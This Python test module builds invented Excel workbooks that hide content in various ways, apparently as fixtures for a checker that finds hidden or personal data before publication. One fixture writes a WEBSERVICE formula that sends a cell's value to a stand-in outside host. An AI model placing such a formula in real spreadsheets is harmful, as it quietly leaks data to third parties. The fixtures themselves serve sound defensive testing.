"""Trapped workbooks. Every person, number and school in them is invented."""

import io
from collections.abc import Callable
from typing import Any

import openpyxl
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill
from openpyxl.styles.differential import DifferentialStyle
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.library.checks.publication.trapping import Trap, relation, saved, swap, trap, with_parts

TRAPS: list[Trap] = []
ROWS = [
    ["Ward", "Responses", "Share"],
    ["Moot Hill", 41, 0.41],
    ["Bridge End", 35, 0.35],
    ["Old Quay", 24, 0.24],
]
RELATIONS = "xl/_rels/workbook.xml.rels"
SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
NO_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "</Relationships>"
)
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def book() -> Any:
    """A small workbook of counts."""
    made = openpyxl.Workbook()
    made.active.title = "Counts"
    for row in ROWS:
        made.active.append(row)
    return made


def written(fill: Callable[[Any, Any], None]) -> bytes:
    """A workbook by the other library, with the counts and what *fill* adds."""
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out)
    sheet = made.add_worksheet("Counts")
    for number, row in enumerate(ROWS):
        sheet.write_row(number, 0, row)
    fill(made, sheet)
    made.close()
    return out.getvalue()


@trap(TRAPS, "a.xlsx", "Sheet Raw", "hidden")
def a_hidden_sheet() -> bytes:
    made = book()
    made.create_sheet("Raw").sheet_state = "hidden"
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Raw", "very hidden")
def a_very_hidden_sheet() -> bytes:
    return written(lambda made, sheet: made.add_worksheet("Raw").very_hidden())


@trap(TRAPS, "a.xlsx", "Sheet Counts, row 3", "hidden")
def a_hidden_row() -> bytes:
    made = book()
    made.active.row_dimensions[3].hidden = True
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, row 3", "hidden")
def a_row_without_height() -> bytes:
    flat = swap('<row r="3">', '<row r="3" ht="0" customHeight="1">')
    return with_parts(saved(book()), {"xl/worksheets/sheet1.xml": flat})


@trap(TRAPS, "a.xlsx", "Sheet Counts, column B", "hidden")
def a_hidden_column() -> bytes:
    made = book()
    made.active.column_dimensions["B"].hidden = True
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, column C", "hidden")
def a_column_without_width() -> bytes:
    return written(lambda made, sheet: sheet.set_column("C:C", 0))


@trap(TRAPS, "a.xlsx", "Sheet Counts, columns B to C", "hidden")
def columns_folded_away() -> bytes:
    made = book()
    made.active.column_dimensions.group("B", "C", hidden=True)
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, rows 2 to 3", "hidden")
def rows_folded_away() -> bytes:
    made = book()
    made.active.row_dimensions.group(2, 3, hidden=True)
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, rows 3 to 4", "filtered out")
def rows_filtered_out() -> bytes:
    def fill(made: Any, sheet: Any) -> None:
        sheet.autofilter("A1:C4")
        sheet.filter_column("A", "x == Moot")
        sheet.set_row(2, options={"hidden": True})
        sheet.set_row(3, options={"hidden": True})

    return written(fill)


@trap(TRAPS, "a.xlsx", "Sheet Counts, filter", "leaves rows out")
def a_filter_that_waits() -> bytes:
    made = book()
    made.active.auto_filter.ref = "A1:C4"
    made.active.auto_filter.add_filter_column(0, ["Moot Hill"])
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell E9", "colour of their background")
def white_letters_on_white() -> bytes:
    made = book()
    made.active["E9"] = "Five people asked not to be named"
    made.active["E9"].font = Font(color="FFFFFF")
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell B2", "colour of their background")
def black_letters_on_black() -> bytes:
    made = book()
    made.active["B2"].fill = PatternFill("solid", fgColor="000000")
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell B3", "colour of their background")
def letters_in_the_white_of_the_theme() -> bytes:
    def fill(made: Any, sheet: Any) -> None:
        sheet.write("B3", 35, made.add_format({"font_color": "#010101"}))

    return with_parts(written(fill), {"xl/styles.xml": swap('rgb="FF010101"', 'theme="0"')})


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell B4", "number format ';;;'")
def an_empty_number_format() -> bytes:
    made = book()
    made.active["B4"].number_format = ";;;"
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell A3", "letters of 1 points")
def letters_of_one_point() -> bytes:
    made = book()
    made.active["A3"].font = Font(size=1)
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell D1", "Some words are hidden")
def white_words_within_a_cell() -> bytes:
    def fill(made: Any, sheet: Any) -> None:
        white = made.add_format({"font_color": "#FFFFFF"})
        sheet.write_rich_string("D1", "Seen ", white, "unseen words", " seen")

    return written(fill)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cells B2:B4", "conditional format")
def a_condition_that_hides() -> bytes:
    made = book()
    rule = CellIsRule(operator="lessThan", formula=["30"])
    rule.dxf = DifferentialStyle(font=Font(color="FFFFFF"))
    made.active.conditional_formatting.add("B2:B4", rule)
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell B2", "merged cell")
def a_cell_beneath_a_merge() -> bytes:
    ends = '</sheetData><mergeCells count="1"><mergeCell ref="A2:B2"/></mergeCells>'
    return with_parts(saved(book()), {"xl/worksheets/sheet1.xml": swap("</sheetData>", ends)})


@trap(TRAPS, "a.xlsx", "Sheet Counts, cells A2, B2, A3 and", "filled shape lies over")
def a_black_shape_over_cells() -> bytes:
    def fill(made: Any, sheet: Any) -> None:
        options = {"width": 128, "height": 60, "fill": {"color": "black"}}
        sheet.insert_textbox("A2", "", options)

    return written(fill)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell B2", "comment")
def a_comment() -> bytes:
    made = book()
    made.active["B2"].comment = Comment("Is this the same family twice?", "Clerk")
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell B2", "comment")
def a_comment_in_a_thread() -> bytes:
    thread = f'<ThreadedComments {MAIN}><threadedComment ref="B2"><text>Who?</text>'
    parts = {
        SHEET_RELATIONS: relation("threadedComment", "../threadedComments/t1.xml")(NO_RELATIONS),
        "xl/threadedComments/t1.xml": f"{thread}</threadedComment></ThreadedComments>",
    }
    return with_parts(saved(book()), parts)


@trap(TRAPS, "a.xlsx", "Workbook", "names of people who commented")
def a_list_of_people() -> bytes:
    parts = {
        RELATIONS: relation("person", "persons/person.xml"),
        "xl/persons/person.xml": '<personList xmlns="urn:p"><person displayName="I. N. Vented"/>'
        "</personList>",
    }
    return with_parts(saved(book()), parts)


def _related(kind: str, path: str, content: str = "<x/>") -> bytes:
    parts = {RELATIONS: relation(kind, path), f"xl/{path}": content}
    return with_parts(saved(book()), parts)


@trap(TRAPS, "a.xlsx", "Part xl/pivotCache/pivotCacheRecords1.xml", "behind a pivot table")
def a_pivot_cache() -> bytes:
    return _related("pivotCacheRecords", "pivotCache/pivotCacheRecords1.xml")


@trap(TRAPS, "a.xlsx", "Part xl/model/item.data", "data model")
def a_data_model() -> bytes:
    return _related("powerPivotData", "model/item.data")


@trap(TRAPS, "a.xlsx", "Part xl/connections.xml", "connection")
def a_connection() -> bytes:
    return _related("connections", "connections.xml")


@trap(TRAPS, "a.xlsx", "Part xl/revisions/revisionHeaders.xml", "history of changes")
def a_history_of_changes() -> bytes:
    return _related("revisionHeaders", "revisions/revisionHeaders.xml")


@trap(TRAPS, "a.xlsx", "Part xl/vbaProject.bin", "macros")
def a_macro() -> bytes:
    return _related("vbaProject", "vbaProject.bin", "invented")


@trap(TRAPS, "a.xlsx", "Part xl/embeddings/Book2.xlsx", "whole file is embedded")
def an_embedded_workbook() -> bytes:
    return _related("package", "embeddings/Book2.xlsx", "invented")


@trap(TRAPS, "a.xlsx", "Part xl/externalLinks/externalLink1.xml", "another workbook")
def a_link_to_another_workbook() -> bytes:
    return _related("externalLink", "externalLinks/externalLink1.xml")


@trap(TRAPS, "a.xlsx", "Part customXml/item1.xml", "custom XML")
def data_in_custom_xml() -> bytes:
    parts = {
        RELATIONS: relation("customXml", "../customXml/item1.xml"),
        "customXml/item1.xml": "<answers><answer>Invented</answer></answers>",
    }
    return with_parts(saved(book()), parts)


@trap(TRAPS, "a.xlsx", "Part xl/notes.txt", "nothing in it uses it")
def a_stowaway() -> bytes:
    return with_parts(saved(book()), {"xl/notes.txt": "invented"})


@trap(TRAPS, "a.xlsx", "Document properties", "the author")
def an_author() -> bytes:
    made = book()
    made.properties.creator = "Ida Nvented"
    return saved(made)


@trap(TRAPS, "a.xlsx", "Document properties", "who saved it last")
def a_last_hand() -> bytes:
    made = book()
    made.properties.lastModifiedBy = "invented.ida"
    return saved(made)


@trap(TRAPS, "a.xlsx", "Document properties", "the manager")
def a_manager() -> bytes:
    return written(lambda made, sheet: made.set_properties({"manager": "Ida Nvented"}))


@trap(TRAPS, "a.xlsx", "Document properties", "'Checked by'")
def a_property_of_ones_own() -> bytes:
    return written(lambda made, sheet: made.set_custom_property("Checked by", "Ida"))


@trap(TRAPS, "a.xlsx", "Defined name secret", "hidden")
def a_hidden_name() -> bytes:
    made = book()
    made.defined_names["secret"] = DefinedName("secret", attr_text="Counts!$B$2", hidden=True)
    return saved(made)


@trap(TRAPS, "a.xlsx", "Defined name old", "another file")
def a_name_into_another_file() -> bytes:
    made = book()
    made.defined_names["old"] = DefinedName("old", attr_text="'[pupils.xlsx]All'!$A$1")
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, cell F1", "reaches outside")
def a_formula_that_sends() -> bytes:
    made = book()
    made.active["F1"] = '=WEBSERVICE("https://invented.example/?"&B2)'
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, header or footer", "e-mail address")
def a_person_in_the_footer() -> bytes:
    made = book()
    made.active.oddFooter.center.text = "Questions: ida.nvented@council.example"
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Counts, data validation of E1", "e-mail address")
def people_in_a_choice() -> bytes:
    made = book()
    choice = DataValidation(type="list", formula1='"ida.nvented@council.example,none"')
    choice.add("E1")
    made.active.add_data_validation(choice)
    return saved(made)


@trap(TRAPS, "a.xlsx", "alternative text", "e-mail address")
def a_person_in_alternative_text() -> bytes:
    def fill(made: Any, sheet: Any) -> None:
        sheet.insert_textbox("H2", "Note", {"description": "Sent by kai.b@home.example"})

    return written(fill)


@trap(TRAPS, "a.xlsx", "Workbook", "stand in no cell")
def words_of_a_deleted_cell() -> bytes:
    kept = "<si><t>a deleted answer</t></si></sst>"
    content = written(lambda made, sheet: None)
    return with_parts(content, {"xl/sharedStrings.xml": swap("</sst>", kept)})


@trap(TRAPS, "a.xlsx", "column C (Postcode)", "4 times there is a full postcode")
def postcodes_of_respondents() -> bytes:
    made = openpyxl.Workbook()
    made.active.title = "Answers"
    made.active.append(["Response", "Said", "Postcode"])
    for number in range(1, 5):
        made.active.append([number, "More buses", f"N99 {number}ZZ"])
    return saved(made)


@trap(TRAPS, "a.xlsx", "Sheet Answers, cell C2", "telephone number")
def a_mobile_that_lost_its_zero() -> bytes:
    made = openpyxl.Workbook()
    made.active.title = "Answers"
    made.active.append(["Response", "Said", "Mobile"])
    made.active.append([1, "More buses", 7700900123])
    return saved(made)


@trap(TRAPS, "a.xlsx", "first in Sheet Answers, cell B2", "2 times there is a person's name")
def a_column_of_names() -> bytes:
    made = openpyxl.Workbook()
    made.active.title = "Answers"
    for row in (["Response", "Full name"], [1, "Ida Nvented"], [2, "Kai Nvented"]):
        made.active.append(row)
    return saved(made)
